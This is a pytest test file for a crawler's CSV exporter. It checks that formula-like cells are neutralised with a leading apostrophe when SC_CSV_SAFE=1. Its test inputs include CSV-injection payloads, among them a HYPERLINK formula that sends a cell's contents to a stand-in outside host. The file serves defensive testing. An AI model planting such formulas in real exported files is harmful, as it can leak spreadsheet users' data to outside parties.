"""With SC_CSV_SAFE=1, spreadsheets run no cell of a CSV file. Without it, cells are unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sc_spiders.feeds.formats import CsvPageExporter
from tests.dataset import make
from tests.support.answers import http, user
from tests.support.crawl import Crawls
from tests.support.examples import any_text
from tests.support.server import Server

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1;"more")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "\uff1d1",
)
RUN = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def written(texts: list[str], *, safe: bool) -> list[dict[str, str]]:
    """The cells that a CSV reader gets for users with these names and ids."""
    file = io.BytesIO()
    exporter = CsvPageExporter(file, safe=safe)
    rows = [make.user(number, username=text, followers_count=number) for number, text in enumerate(texts, 1)]
    exporter.export_rows(rows)
    return list(csv.DictReader(io.StringIO(file.getvalue().decode(), newline="")))


@given(st.lists(any_text() | st.builds("{}{}".format, st.sampled_from(RUN), any_text()) | st.sampled_from(FORMULAS)))
def test_no_cell_is_a_formula_and_no_text_is_lost(texts: list[str]) -> None:
    exact = [row["username"] for row in written(texts, safe=False)]
    safe = [row["username"] for row in written(texts, safe=True)]

    assert exact == texts
    assert not any(text.startswith(tuple(RUN)) for text in safe)
    for text, given_text in zip(safe, texts, strict=True):
        assert text == (f"'{given_text}" if given_text.startswith(tuple(RUN)) else given_text)


def test_numbers_stay_numbers() -> None:
    file = io.BytesIO()
    row: dict[str, Any] = make.edge("likes", "soundcloud:users:1", "soundcloud:tracks:1", score=-1.5)
    exporter = CsvPageExporter(file, safe=True)
    exporter.export_rows([row])
    (read,) = csv.DictReader(io.StringIO(file.getvalue().decode(), newline=""))
    assert read["score"] == "-1.5"


def test_so_is_an_item_that_is_written_by_itself() -> None:
    file = io.BytesIO()
    exporter = CsvPageExporter(file, safe=True)
    exporter.start_exporting()
    exporter.export_item({"name": "=1+1", "count": -1})
    assert file.getvalue().decode().splitlines()[1] == "'=1+1,-1"


@pytest.mark.parametrize("safe", ["0", "1"])
@pytest.mark.parametrize("words", [(), ("-o", "user.csv", "-s", "SC_KINDS=user")], ids=["default output", "-o"])
def test_a_crawl_says_first_what_its_csv_is(crawls: Crawls, words: tuple[str, ...], safe: str) -> None:
    def answer(path: str, number: int) -> bytes:
        return http(200, {**user(1), "username": FORMULAS[0]})

    with Server(answer) as server:
        settings = {**server.settings, "SC_FORMAT": "csv", "SC_CSV_SAFE": safe}
        crawl = crawls.run("user", *words, settings=settings, user=1)

    assert crawl.code == 0
    file = crawls.folder / "user.csv" if words else crawl.folder / "user.csv"
    (row,) = csv.DictReader(io.StringIO(file.read_text(encoding="utf-8"), newline=""))
    assert row["username"] == ("'" if safe == "1" else "") + FORMULAS[0]
    lines = crawl.log.splitlines()
    (told,) = [number for number, line in enumerate(lines) if "SC_CSV_SAFE=1" in line]
    assert told < next(number for number, line in enumerate(lines) if " user: user=1" in line)


def test_json_lines_say_nothing_of_it(crawls: Crawls) -> None:
    with Server() as server:
        assert "SC_CSV_SAFE" not in crawls.run("user", settings=server.settings, user=1).log
